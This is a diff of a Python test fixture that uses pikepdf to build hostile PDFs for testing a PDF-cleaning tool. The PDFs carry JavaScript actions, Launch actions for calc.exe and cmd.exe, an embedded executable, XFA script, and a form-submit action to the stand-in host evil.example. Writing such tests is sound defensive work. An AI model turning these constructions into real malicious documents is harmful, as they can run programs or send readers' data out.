@@ -429,25 +429,46 @@ def active_pdfs():
     import pikepdf
 
     N = pikepdf.Name
+    cases = []
 
+    def case(name, why, *removed):
+        """The decorated function builds the PDF `name`, hostile for `why`; cleaning it must tell
+        the co-ordinator it removed each of `removed`."""
+
+        def add(build):
+            cases.append((name, build, why, set(removed)))
+            return build
+
+        return add
+
+    @case("document-js.pdf", "document-level JavaScript", "JavaScript")
     def document_js(pdf):
         tree = pikepdf.Dictionary(
             Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(_js())])
         )
         pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)
 
+    @case(
+        "open-js.pdf",
+        "JavaScript run on opening",
+        "JavaScript",
+        "an action run when the file is opened",
+    )
     def open_js(pdf):
         pdf.Root.OpenAction = _js()
 
+    @case("open-launch.pdf", "launch action on opening", "actions that launch programs")
     def open_launch(pdf):
         pdf.Root.OpenAction = _action(S=N.Launch, F=pikepdf.String("calc.exe"))
 
+    @case("embedded.pdf", "embedded executable", "embedded files")
     def embedded(pdf):
         tree = pikepdf.Dictionary(
             Names=pikepdf.Array([pikepdf.String("run.exe"), _embedded_spec(pdf)])
         )
         pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=tree)
 
+    @case("attached.pdf", "file attachment annotation", "embedded files")
     def attachment_annotation(pdf):
         pdf.pages[0].Annots = pikepdf.Array(
             [
@@ -462,21 +483,31 @@ def active_pdfs():
             ]
         )
 
+    @case(
+        "page-aa.pdf",
+        "JavaScript when a page opens (AA)",
+        "actions run automatically (on opening a page or a field)",
+    )
     def page_aa(pdf):
         pdf.pages[0].AA = pikepdf.Dictionary(O=_js())
 
+    @case("link-js.pdf", "link running JavaScript", "JavaScript")
     def link_js(pdf):
         _link(pdf, _js())
 
+    @case("link-uri-js.pdf", "javascript: link", "JavaScript")
     def link_uri_js(pdf):
         _link(pdf, _action(S=N.URI, URI=pikepdf.String("javascript:alert(1)")))
 
+    @case("link-launch.pdf", "link launching cmd.exe", "actions that launch programs")
     def link_launch(pdf):
         _link(pdf, _action(S=N.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))
 
+    @case("link-next.pdf", "harmless link chaining JavaScript", "JavaScript")
     def link_next_js(pdf):
         _link(pdf, _action(S=N.URI, URI=pikepdf.String("https://example.org/"), Next=_js()))
 
+    @case("goto-remote.pdf", "link opening a remote file", "links that open other files")
     def goto_remote(pdf):
         _link(
             pdf,
@@ -485,14 +516,17 @@ def active_pdfs():
             ),
         )
 
+    @case("submit.pdf", "form submission to another site", "form actions that read or send data")
     def submit_form(pdf):
         _link(pdf, _action(S=N.SubmitForm, F=pikepdf.String("https://evil.example/collect")))
 
+    @case("xfa.pdf", "XFA form with script", "XFA forms")
     def xfa(pdf):
         pdf.Root.AcroForm = pikepdf.Dictionary(
             Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>x()</script></xdp:xdp>")
         )
 
+    @case("rich-media.pdf", "RichMedia (Flash) annotation", "multimedia")
     def rich_media(pdf):
         pdf.pages[0].Annots = pikepdf.Array(
             [
@@ -502,6 +536,7 @@ def active_pdfs():
             ]
         )
 
+    @case("outline-js.pdf", "bookmark running JavaScript", "JavaScript")
     def outline_js(pdf):
         item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Open me"), A=_js()))
         outlines = pdf.make_indirect(
@@ -510,63 +545,17 @@ def active_pdfs():
         item.Parent = outlines
         pdf.Root.Outlines = outlines
 
+    @case(
+        "everything.pdf",
+        "all of the above at once",
+        "JavaScript",
+        "actions that launch programs",
+        "XFA forms",
+    )
     def everything(pdf):
         for build in (document_js, open_launch, page_aa, link_js, xfa):
             build(pdf)
 
-    cases = [
-        ("document-js.pdf", document_js, "document-level JavaScript", {"JavaScript"}),
-        (
-            "open-js.pdf",
-            open_js,
-            "JavaScript run on opening",
-            {"JavaScript", "an action run when the file is opened"},
-        ),
-        (
-            "open-launch.pdf",
-            open_launch,
-            "launch action on opening",
-            {"actions that launch programs"},
-        ),
-        ("embedded.pdf", embedded, "embedded executable", {"embedded files"}),
-        ("attached.pdf", attachment_annotation, "file attachment annotation", {"embedded files"}),
-        (
-            "page-aa.pdf",
-            page_aa,
-            "JavaScript when a page opens (AA)",
-            {"actions run automatically (on opening a page or a field)"},
-        ),
-        ("link-js.pdf", link_js, "link running JavaScript", {"JavaScript"}),
-        ("link-uri-js.pdf", link_uri_js, "javascript: link", {"JavaScript"}),
-        (
-            "link-launch.pdf",
-            link_launch,
-            "link launching cmd.exe",
-            {"actions that launch programs"},
-        ),
-        ("link-next.pdf", link_next_js, "harmless link chaining JavaScript", {"JavaScript"}),
-        (
-            "goto-remote.pdf",
-            goto_remote,
-            "link opening a remote file",
-            {"links that open other files"},
-        ),
-        (
-            "submit.pdf",
-            submit_form,
-            "form submission to another site",
-            {"form actions that read or send data"},
-        ),
-        ("xfa.pdf", xfa, "XFA form with script", {"XFA forms"}),
-        ("rich-media.pdf", rich_media, "RichMedia (Flash) annotation", {"multimedia"}),
-        ("outline-js.pdf", outline_js, "bookmark running JavaScript", {"JavaScript"}),
-        (
-            "everything.pdf",
-            everything,
-            "all of the above at once",
-            {"JavaScript", "actions that launch programs", "XFA forms"},
-        ),
-    ]
     return [(name, _pdf(build), why, removed) for name, build, why, removed in cases]
 
 
